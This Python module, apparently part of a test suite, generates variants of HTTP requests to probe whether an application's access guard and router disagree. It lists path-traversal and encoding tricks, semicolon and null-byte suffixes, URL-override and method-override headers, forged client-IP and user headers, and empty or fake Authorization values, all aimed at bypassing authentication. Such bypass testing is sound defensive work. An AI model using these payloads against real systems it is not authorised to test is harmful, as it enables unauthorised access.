"""Ways to write a request so that a guard and a router might read it differently."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

Rewrite = Callable[[str], str]

OPEN = ("/health/live", "/health/ready", "/v1/setup", "/v1/auth/login", "/hooks/default/trigger")
"""Addresses a guard lets everybody to."""


@dataclass(frozen=True)
class Disguise:
    """One trick: what it makes of a path, what it sends besides, by which method."""

    name: str
    path: Rewrite = str
    headers: dict[str, str] = field(default_factory=dict)
    method: str | None = None


def disguises(path: str) -> Iterator[Disguise]:
    """Give every trick for a path."""
    yield from _queries()
    yield from _tails()
    yield from _beginnings()
    yield from _letters()
    yield from _headers(path)


def _queries() -> Iterator[Disguise]:
    for added in (
        *(f"x={place}" for place in (*OPEN, "/api/system/status", "/hooks/trigger")),
        *OPEN[:1],
        "_method=GET",
        "access_token=x",
        "%3f/health/live",
    ):
        yield Disguise(f"?{added}", _adding(added))


def _adding(added: str) -> Rewrite:
    return lambda path: f"{path}{'&' if '?' in path else '?'}{added}"


def _tails() -> Iterator[Disguise]:
    for tail in (
        *("/configs", "/health", "/ready", "/health/live", "/public", ".json", ".css", "/.", "/"),
        *(";/public", ";/health/live", ";jsessionid=x", ";a=b/../health/live", "%3b/health/live"),
        *("//", "/..;/health/live", "/../../../health/live", "/%2e%2e/%2e%2e/health/live"),
        *("%00", "%20", "%09", "%0a", "%0d%0a", "%23", "%3fx=/health/live", "%2f", "%5c", "~", "*"),
        *("." * 3, "%ff", "%c0%af", "%e2%80%8b", "/" + "a" * 4_000, "/" * 500),
    ):
        yield Disguise(f"…{tail[:30]}", _ending(tail))


def _ending(tail: str) -> Rewrite:
    def end(path: str) -> str:
        before, mark, query = path.partition("?")
        return f"{before}{tail}{mark}{query}"

    return end


def _beginnings() -> Iterator[Disguise]:
    for head in (
        *("/", "//", "/.", "/%2e", "/x/..", "/x/%2e%2e", "/x/..%2f", "/%2f", "/%5c", "/\\"),
        *(f"{place}/../../.." for place in OPEN),
        *(f"{place}/..;/..;/.." for place in OPEN[:2]),
        *("/assets/..", "/assets/%2e%2e", "/static/..%2f..", "/api", "/public", "/;/", "/%00"),
        *("http://flows.test", "/http://127.0.0.1", "/%c0%ae%c0%ae", "/%ef%bc%8e%ef%bc%8e"),
    ):
        yield Disguise(f"{head}…", head.__add__)


def _letters() -> Iterator[Disguise]:
    yield Disguise("upper case", lambda path: path.upper())
    yield Disguise("/V1", lambda path: path.replace("/v1", "/V1", 1))
    yield Disguise("an encoded letter", lambda path: path.replace("/v1", "/%76%31", 1))
    yield Disguise("a letter encoded twice", lambda path: path.replace("/v1", "/%2576%2531", 1))
    yield Disguise("an encoded slash", lambda path: path.replace("/v1/", "/v1%2f", 1))
    yield Disguise("a slash encoded twice", lambda path: path.replace("/v1/", "/v1%252f", 1))
    yield Disguise("an overlong slash", lambda path: path.replace("/v1/", "/v1%c0%af", 1))
    yield Disguise("%u", lambda path: path.replace("/v1/", "/v1%u002f", 1))
    yield Disguise("a backslash", lambda path: path.replace("/v1/", "/v1\\", 1))
    yield Disguise("wide letters", lambda path: path.replace("/v1", "/%ef%bd%96%ef%bc%91", 1))
    yield Disguise("two slashes within", lambda path: path.replace("/v1/", "/v1//", 1))
    yield Disguise("a dot within", lambda path: path.replace("/v1/", "/v1/./", 1))
    yield Disguise("an encoded dot", lambda path: path.replace("/v1/", "/v1/%2e/", 1))
    yield Disguise("there and back", lambda path: path.replace("/v1/", "/v1/setup/../", 1))
    yield Disguise("a parameter within", lambda path: path.replace("/v1/", "/v1;x=y/", 1))
    yield Disguise("a blank within", lambda path: path.replace("/v1/", "/v1%20/", 1))


def _headers(path: str) -> Iterator[Disguise]:
    for name in ("X-Original-URL", "X-Rewrite-URL", "X-Override-URL", "X-Forwarded-Uri"):
        yield Disguise(name, headers={name: "/health/live"})
        # The other way round: an open address, and the closed one beside it.
        yield Disguise(f"{name} back", lambda _: "/health/live", headers={name: path})
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        for method in ("GET", "OPTIONS", "DELETE"):
            yield Disguise(f"{name}: {method}", headers={name: method})
    for method in ("HEAD", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "GETS", "post", "delete"):
        yield Disguise(method, method=method)
    for name, value in (
        *((one, "/health") for one in ("X-Forwarded-Prefix", "X-Script-Name", "Script-Name")),
        *((one, "127.0.0.1") for one in ("X-Forwarded-For", "X-Real-IP", "X-Client-IP")),
        *((one, "localhost") for one in ("X-Forwarded-Host", "X-Host")),
        *((one, "ada@example.com") for one in ("X-Forwarded-User", "Remote-User", "X-Auth-User")),
        ("Forwarded", 'for=127.0.0.1;host=localhost;proto="https"'),
        ("X-Custom-IP-Authorization", "127.0.0.1"),
        ("Sec-WebSocket-Protocol", "nextscript"),
        ("Accept", "text/html"),
    ):
        yield Disguise(f"{name}: {value}", headers={name: value})
    for value in ("Bearer", "Bearer null", "Bearer undefined", "Basic YWRhOnB3", "Negotiate x", ""):
        yield Disguise(f"Authorization: {value}", headers={"Authorization": value})
